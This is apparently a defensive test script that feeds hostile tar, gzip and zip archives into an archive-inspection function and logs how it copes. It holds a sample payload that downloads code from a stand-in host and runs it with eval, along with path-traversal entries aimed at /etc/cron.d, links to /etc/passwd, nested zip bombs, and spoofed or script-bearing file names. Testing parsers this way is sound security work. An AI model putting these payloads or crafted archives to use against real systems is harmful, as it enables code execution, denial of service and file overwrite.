// hostile archives through openArchive + inspectProject; prints what came
import { gzipSync, deflateRawSync } from 'node:zlib';
import { zipSync, strToU8 } from 'fflate';
import { openArchive } from '/work/main/utils/inspect/archive/open-archive.ts';
const evil = "const axios = require('axios');\naxios.get('https://a.example/x').then((r) => eval(r.data));\n";
const cpu = () => { const { user, system } = process.cpuUsage(); return (user + system) / 1000; };
async function show(label: string, name: string, ...parts: Uint8Array[]) {
  const t = cpu();
  try {
    const p = await openArchive(name, new Blob(parts as BlobPart[]));
    console.log(label.padEnd(22), (cpu() - t).toFixed(0).padStart(6), 'ms', p.files.length, 'files', p.files.slice(0, 6).map((f) => `${JSON.stringify(f.path.slice(0, 50))}(${f.bytes?.length ?? '-'}${f.linksTo !== undefined ? '->' + f.linksTo : ''})`).join(' '), '|', [...new Set(p.skipped.map((s) => s.reason))].join(', '), (process.memoryUsage().rss / 1e6).toFixed(0) + 'MB');
  } catch (e) { console.log(label.padEnd(22), (cpu() - t).toFixed(0).padStart(6), 'ms THREW', (e as Error).constructor.name, (e as Error).message.slice(0, 140)); }
}
function tarEntry(name: string, body: string | Uint8Array, o: { type?: string; link?: string; size?: number; sizeField?: Uint8Array } = {}) {
  const b = typeof body === 'string' ? Buffer.from(body) : Buffer.from(body);
  const h = Buffer.alloc(512);
  h.write(name.slice(0, 100), 0, 'latin1'); h.write('0000644\0', 100); h.write('0000000\0', 108); h.write('0000000\0', 116);
  if (o.sizeField) Buffer.from(o.sizeField).copy(h, 124); else h.write((o.size ?? b.length).toString(8).padStart(11, '0') + '\0', 124);
  h.write('00000000000\0', 136); h.fill(32, 148, 156); h.write(o.type ?? '0', 156); h.write(o.link ?? '', 157); h.write('ustar\x0000', 257);
  let s = 0; for (const x of h) s += x; h.write(s.toString(8).padStart(6, '0') + '\0 ', 148);
  return Buffer.concat([h, b, Buffer.alloc((512 - (b.length % 512)) % 512)]);
}
const end = Buffer.alloc(1024);
const pax = (rec: Record<string, string>, type = 'x') => { const body = Object.entries(rec).map(([k, v]) => { const base = ` ${k}=${v}\n`; let n = base.length; while (String(n).length + base.length !== n) n = String(n).length + base.length; return `${n}${base}`; }).join(''); return tarEntry('PaxHeader', body, { type }); };
const T = (...e: Buffer[]) => Buffer.concat([...e, end]);
const g = tarEntry('p/a.js', evil), z = tarEntry('p/z.js', evil);
const run: Record<string, () => Promise<void>> = {
  tarPlain: () => show('tar plain', 'a.tar', T(g, z)),
  tarDev: () => show('tar devices', 'a.tar', T(g, tarEntry('p/dev', '', { type: '3' }), tarEntry('p/blk', '', { type: '4' }), tarEntry('p/fifo', '', { type: '6' }), z)),
  tarHard: () => show('tar hard link', 'a.tar', T(g, tarEntry('p/h.js', '', { type: '1', link: 'p/a.js' }), tarEntry('p/h2.js', '', { type: '1', link: '/etc/passwd' }), z)),
  tarHardSize: () => show('tar hard link w body', 'a.tar', T(g, tarEntry('p/h.js', evil, { type: '1', link: 'p/a.js' }), z)),
  tarLinkSize: () => show('tar symlink w body', 'a.tar', T(g, tarEntry('p/h.js', evil, { type: '2', link: 'a.js' }), z)),
  tarDirSize: () => show('tar dir with body', 'a.tar', T(g, tarEntry('p/d/', evil, { type: '5' }), z)),
  tarSparse: () => show('tar gnu sparse', 'a.tar', T(g, tarEntry('p/s.js', evil, { type: 'S' }), z)),
  tarSparsePax: () => show('tar pax sparse', 'a.tar', T(g, pax({ 'GNU.sparse.major': '1', 'GNU.sparse.minor': '0', 'GNU.sparse.name': 'p/real.js', 'GNU.sparse.realsize': '999999999999' }), tarEntry('p/GNUSparseFile.0/real.js', '1\n0\n90\n'.padEnd(512, '\0') + evil), z)),
  tarCont: () => show('tar type 7', 'a.tar', T(g, tarEntry('p/c.js', evil, { type: '7' }), z)),
  tarOddType: () => show('tar type Z', 'a.tar', T(g, tarEntry('p/c.js', evil, { type: 'Z' }), z)),
  tarNulType: () => show('tar type NUL', 'a.tar', T(g, tarEntry('p/c.js', evil, { type: '\0' }), z)),
  tarPaxSize: () => show('pax huge size', 'a.tar', T(g, pax({ size: '9999999999999999' }), tarEntry('p/b.js', evil), z)),
  tarPaxNeg: () => show('pax negative size', 'a.tar', T(g, pax({ size: '-5' }), tarEntry('p/b.js', evil), z)),
  tarPaxNaN: () => show('pax NaN size', 'a.tar', T(g, pax({ size: 'abc' }), tarEntry('p/b.js', evil), z)),
  tarPaxPath: () => show('pax path', 'a.tar', T(g, pax({ path: '../../../etc/cron.d/x\nq', linkpath: 'q' }), tarEntry('p/b.js', evil), z)),
  tarPaxLen: () => show('pax broken len', 'a.tar', T(g, tarEntry('PaxHeader', '99999999999 path=x\n', { type: 'x' }), tarEntry('p/b.js', evil), z)),
  tarPaxLen0: () => show('pax len 0', 'a.tar', T(g, tarEntry('PaxHeader', '0 path=x\n0 a', { type: 'x' }), tarEntry('p/b.js', evil), z)),
  tarPaxBig: () => show('pax 60 MB header', 'a.tar', T(g, tarEntry('PaxHeader', '60000012 path='.padEnd(60_000_000, 'x') + '\n', { type: 'x' }), tarEntry('p/b.js', evil), z)),
  tarPaxProto: () => show('pax __proto__', 'a.tar', T(g, pax({ __proto__: 'x', ['__proto__']: 'y', constructor: 'z' } as never), tarEntry('p/__proto__', evil), tarEntry('p/constructor', evil), z)),
  tarGlobal: () => show('pax global path', 'a.tar', T(pax({ path: 'p/all.js' }, 'g'), g, tarEntry('p/b.js', evil), z)),
  tarLongName: () => show('gnu long name', 'a.tar', T(g, tarEntry('././@LongLink', 'p/' + 'd/'.repeat(2000) + 'x.js\0', { type: 'L' }), tarEntry('p/x', evil), z)),
  tarLongHuge: () => show('gnu long 80 MB', 'a.tar.gz', gzipSync(T(g, tarEntry('././@LongLink', 'p/'.padEnd(80_000_000, 'x') + '\0', { type: 'L' }), tarEntry('p/x', evil), z))),
  tarBase256: () => show('tar base256 size', 'a.tar', T(g, tarEntry('p/b.js', evil, { sizeField: Uint8Array.from([0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, evil.length]) }), z)),
  tarBase256neg: () => show('tar base256 neg', 'a.tar', T(g, tarEntry('p/b.js', evil, { sizeField: new Uint8Array(12).fill(255) }), z)),
  tarOctalJunk: () => show('tar size junk', 'a.tar', T(g, tarEntry('p/b.js', evil, { sizeField: Buffer.from('9zzzzzzzzzz\0') }), z)),
  tarZeroBlocks: () => show('zero blocks between', 'a.tar', T(g, end, z)),
  tarBadSum: () => show('bad sum between', 'a.tar', T(g, (() => { const b = tarEntry('p/b.js', evil); b[0] = 65; return b; })(), z)),
  tarNames: () => show('tar odd names', 'a.tar', T(tarEntry('/abs.js', evil), tarEntry('C:\\win.js', evil), tarEntry('p\\..\\..\\x.js', evil), tarEntry('p/\u001b[31mred\u0007.js', evil), tarEntry('', evil), tarEntry('.', evil), tarEntry('..', evil), z)),
  gzMulti: () => show('gzip members', 'a.tar.gz', Buffer.concat([gzipSync(T(g)), gzipSync(T(z))])),
  gzMulti2: () => show('gzip split members', 'a.tar.gz', (() => { const t = T(g, z); return Buffer.concat([gzipSync(t.subarray(0, 700)), gzipSync(t.subarray(700))]); })()),
  gzJunk: () => show('gzip tail junk', 'a.tar.gz', Buffer.concat([gzipSync(T(g, z)), Buffer.from('junkjunk')])),
  gzZeroTail: () => show('gzip tail zeros', 'a.tar.gz', Buffer.concat([gzipSync(T(g, z)), Buffer.alloc(5000)])),
  gzNest: () => show('gzip nested x50', 'a.tar.gz', (() => { let b: Buffer = T(g, z); for (let i = 0; i < 50; i++) b = gzipSync(b); return b; })()),
  gzNest2: () => show('gz in gz (.gz)', 'a.js.gz', gzipSync(gzipSync(Buffer.from(evil)))),
  gzTgzInside: () => show('tgz in tgz', 'a.tgz', gzipSync(T(g, tarEntry('p/in.tgz', gzipSync(T(z)))))),
  zipProto: () => show('zip __proto__', 'a.zip', zipSync({ ['p/__proto__']: strToU8(evil), 'p/constructor': strToU8(evil), 'p/toString/x.js': strToU8(evil), 'p/hasOwnProperty.js': strToU8(evil) })),
  zipNames: () => show('zip odd names', 'a.zip', zipSync(Object.fromEntries(['\u001b]0;x\u0007.js', 'a\u202egpj.exe', '<img src=x onerror=alert(1)>.js', 'javascript:alert(1)', 'a.js:99999', 'a\nb.js', 'CON', 'aux.js', 'a .js ', 'a.js.', 'x'.repeat(3000) + '.js', '\ud800.js', 'a\0.js', 'a.js\0.png'].map((n) => [n, strToU8(evil)])))),
  zipDirBody: () => show('zip dir with body', 'a.zip', (() => { const b = zipSync({ 'p/a.js': strToU8(evil), 'p/dx': strToU8(evil) }, { level: 0 }); const s = Buffer.from(b); let i; while ((i = s.indexOf('p/dx')) >= 0) s.write('p/d/', i); return s; })()),
  zip64: () => show('zip64 lies', 'a.zip', (() => { const b = Buffer.from(zipSync({ 'p/a.js': strToU8(evil), 'p/z.js': strToU8(evil) }, { level: 0 })); const c = b.indexOf(Buffer.from([0x50, 0x4b, 1, 2])); b.writeUInt32LE(0xffffffff, c + 20); b.writeUInt32LE(0xffffffff, c + 24); return b; })()),
  zipOffset: () => show('zip offset lies', 'a.zip', (() => { const b = Buffer.from(zipSync({ 'p/a.js': strToU8(evil), 'p/z.js': strToU8(evil) }, { level: 0 })); const c = b.indexOf(Buffer.from([0x50, 0x4b, 1, 2])); b.writeUInt32LE(0xfffffff0, c + 42); return b; })()),
  zipTwoEnds: () => show('zip two ends', 'a.zip', (() => { const a = Buffer.from(zipSync({ 'p/a.js': strToU8('1') }, { level: 0 })); const b = Buffer.from(zipSync({ 'p/z.js': strToU8(evil) }, { level: 0 })); a.writeUInt16LE(b.length, a.length - 2); return Buffer.concat([a, b]); })()),
  zipTwo2: () => show('zip cat zip', 'a.zip', (() => { const a = Buffer.from(zipSync({ 'p/z.js': strToU8(evil) }, { level: 0 })); const b = Buffer.from(zipSync({ 'p/a.js': strToU8('1') }, { level: 0 })); return Buffer.concat([a, b]); })()),
  zipHiddenLocal: () => show('zip hidden local', 'a.zip', (() => { const b = Buffer.from(zipSync({ 'p/a.js': strToU8('1'), 'p/z.js': strToU8(evil) }, { level: 0 })); const c1 = b.indexOf(Buffer.from([0x50, 0x4b, 1, 2])); const c2 = b.indexOf(Buffer.from([0x50, 0x4b, 1, 2]), c1 + 4); const e = b.indexOf(Buffer.from([0x50, 0x4b, 5, 6])); const o = Buffer.concat([b.subarray(0, c2), b.subarray(e)]); const e2 = o.length - 22; o.writeUInt16LE(1, e2 + 8); o.writeUInt16LE(1, e2 + 10); o.writeUInt32LE(c2 - c1, e2 + 12); return o; })()),
  zipMethod: () => show('zip odd method', 'a.zip', (() => { const b = Buffer.from(zipSync({ 'p/a.js': strToU8(evil), 'p/z.js': strToU8(evil) }, { level: 0 })); const c = b.indexOf(Buffer.from([0x50, 0x4b, 1, 2])); b.writeUInt16LE(93, c + 10); return b; })()),
  zipLink: () => show('zip symlink chain', 'a.zip', (() => { const links = Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`p/l${i}`, [strToU8(`l${(i + 1) % 300}`), { os: 3, attrs: 0o120777 << 16 }]])); return zipSync({ 'p/a.js': strToU8(evil), ...links } as never); })()),
  zip42: () => show('nested zip x3000', 'a.zip', (() => { const inner = zipSync({ 'x.js': new Uint8Array(10_000_000) }, { level: 9 }); return zipSync(Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`n${i}.zip`, inner])), { level: 0 }); })()),
  zip43: () => show('nested zip many files', 'a.zip', (() => { const inner = zipSync(Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`x${i}.js`, new Uint8Array(0)])), { level: 0 }); return zipSync(Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`n${i}.zip`, inner])), { level: 0 }); })()),
  empty: () => show('empty zip', 'a.zip', zipSync({})),
  random: () => show('random', 'a.zip', crypto.getRandomValues(new Uint8Array(60000))),
  tarTrunc: () => show('tar.gz truncated', 'a.tar.gz', gzipSync(T(g, z)).subarray(0, 120)),
};
const only = process.argv[2];
for (const [k, f] of Object.entries(run)) if (!only || new RegExp(only).test(k)) await f();
console.log('end');
